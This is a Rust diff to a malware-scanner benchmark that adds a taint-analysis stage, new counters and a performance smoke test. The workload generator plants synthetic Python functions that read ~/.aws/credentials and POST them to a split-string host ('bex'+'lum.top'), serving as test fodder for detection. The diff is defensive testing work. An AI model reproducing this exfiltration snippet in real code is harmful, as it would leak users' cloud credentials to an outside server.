@@ -83,6 +83,17 @@ pub fn version_stream(files: usize, versions: usize, seed: u64) -> Vec<ScanReque
             if i % 4 == 0 {
                 content.push_str(&format!("blob_{i} = '{payload}'\n"));
             }
+            if i % 7 == 3 {
+                // A credential-exfil flow (with a concat-built endpoint)
+                // so the workload also exercises the behavior engine's
+                // source->sink path and its constant folder.
+                content.push_str(&format!(
+                    "def sync_{i}():\n    import requests\n    \
+                     host = 'http://bex' + 'lum.top' + '/up'\n    \
+                     creds = open('~/.aws/credentials').read()\n    \
+                     requests.post(host, data=creds)\n"
+                ));
+            }
             FileEntry::new(format!("pkg/mod_{i:03}.py"), content.into_bytes())
         })
         .collect();
@@ -193,6 +204,16 @@ pub fn compare(files: usize, versions: usize, seed: u64) -> ScanhubBenchStats {
         unique.len() as u64,
         "warm run must analyze exactly the unique digests"
     );
+    let unique_python = requests
+        .iter()
+        .flat_map(|r| r.files().iter().filter(|e| e.is_python()))
+        .map(FileEntry::digest)
+        .collect::<HashSet<[u8; 32]>>()
+        .len() as u64;
+    assert_eq!(
+        warm_stats.taint_analyses, unique_python,
+        "taint must run exactly once per unique Python digest"
+    );
 
     ScanhubBenchStats {
         files,
@@ -260,6 +281,10 @@ pub fn render(s: &ScanhubBenchStats) -> String {
         s.layers_decoded,
     );
     out.push_str(&format!(
+        "taint: {} analyses | {} flows recovered | {} consts folded\n",
+        s.warm_stats.taint_analyses, s.warm_stats.flows_found, s.warm_stats.consts_folded,
+    ));
+    out.push_str(&format!(
         "{:<10} {:>7} {:>11} {:>11} {:>11}\n",
         "stage", "count", "p50", "p99", "max"
     ));
@@ -295,6 +320,9 @@ pub fn to_json(s: &ScanhubBenchStats) -> jsonmini::Value {
     doc.insert("warm_parses", s.warm_parses as usize);
     doc.insert("warm_hits", s.warm_hits as usize);
     doc.insert("layers_decoded", s.layers_decoded as usize);
+    doc.insert("taint_analyses", s.warm_stats.taint_analyses as usize);
+    doc.insert("flows_recovered", s.warm_stats.flows_found as usize);
+    doc.insert("consts_folded", s.warm_stats.consts_folded as usize);
     let mut latency = jsonmini::Value::object();
     for (name, stat) in s.warm_stats.latency.named() {
         let mut stage = jsonmini::Value::object();
@@ -394,12 +422,24 @@ mod tests {
             })
             .expect("some seed hex/base64-encodes the C2 literal");
 
-        let layered = ScanHub::new(Some(rules.clone()), None, HubConfig::default());
+        // The behavior engine is off in both arms: its constant folder
+        // also rebuilds decode chains (a Folded layer catches this C2
+        // even at depth 0), and this smoke isolates decoded-layer
+        // scanning specifically.
+        let layered = ScanHub::new(
+            Some(rules.clone()),
+            None,
+            HubConfig {
+                dataflow: false,
+                ..HubConfig::default()
+            },
+        );
         let surface_only = ScanHub::new(
             Some(rules),
             None,
             HubConfig {
                 max_decode_depth: 0,
+                dataflow: false,
                 ..HubConfig::default()
             },
         );
@@ -532,6 +572,58 @@ mod tests {
         }
     }
 
+    /// Release-mode CI smoke: the cached behavior engine stays under
+    /// 10% of warm scan time. Taint runs at artifact-build time, so a
+    /// warm scan pays only the per-scan flow aggregation — measured
+    /// here as the `dataflow` stage's share of total scan service time
+    /// from the hub's own histograms (the same noise-robust estimator
+    /// as the telemetry smoke; raw on/off wall differencing drifts
+    /// ±10% on shared hosts and is printed for eyeballing only).
+    #[test]
+    fn scanhub_dataflow_overhead_smoke() {
+        let yara = yara_ruleset(40);
+        let requests = version_stream(50, 20, 42);
+        let run = |dataflow: bool| {
+            let hub = ScanHub::new(
+                Some(yara.clone()),
+                Some(semgrep_scan::ruleset(20)),
+                HubConfig {
+                    cache_capacity: 0,
+                    artifact_cache_capacity: 8192,
+                    dataflow,
+                    ..HubConfig::default()
+                },
+            );
+            // One artifact-building pass, then timed warm passes.
+            let _ = hub.scan_ordered(requests.iter().cloned());
+            let start = Instant::now();
+            for _ in 0..3 {
+                let _ = hub.scan_ordered(requests.iter().cloned());
+            }
+            (start.elapsed().as_secs_f64() * 1e3, hub.stats())
+        };
+        let (on_ms, stats) = run(true);
+        let (off_ms, _) = run(false);
+        assert!(stats.taint_analyses > 0, "workload never ran the engine");
+        assert!(stats.flows_found > 0, "workload carries no flows");
+        let latency = &stats.latency;
+        let service_ns = (latency.scan.sum_ns - latency.queue.sum_ns) as f64;
+        let ratio = latency.dataflow.sum_ns as f64 / service_ns;
+        println!(
+            "dataflow stage: {:.2}% of scan service time | wall on {on_ms:.1}ms off {off_ms:.1}ms \
+             ({:+.2}%, noisy, not asserted)",
+            ratio * 100.0,
+            (on_ms / off_ms - 1.0) * 100.0
+        );
+        if !cfg!(debug_assertions) {
+            assert!(
+                ratio < 0.10,
+                "cached taint stage is {:.1}% of warm scan time, over the 10% budget",
+                ratio * 100.0
+            );
+        }
+    }
+
     /// The bench JSON carries non-zero p50/p99 for every stage the
     /// acceptance criteria name, and the hub's Prometheus export passes
     /// the line-format validator after a bench workload.
@@ -540,6 +632,13 @@ mod tests {
         let stats = compare(10, 6, 11);
         let doc = to_json(&stats);
         let latency = doc.get("latency").expect("latency object");
+        for counter in ["taint_analyses", "flows_recovered", "consts_folded"] {
+            let v = doc
+                .get(counter)
+                .and_then(jsonmini::Value::as_f64)
+                .unwrap_or_else(|| panic!("{counter} missing from bench json"));
+            assert!(v > 0.0, "{counter} is zero in bench json");
+        }
         for stage in [
             "queue",
             "artifact",
@@ -547,6 +646,7 @@ mod tests {
             "yara",
             "semgrep",
             "layers",
+            "dataflow",
         ] {
             let entry = latency
                 .get(stage)
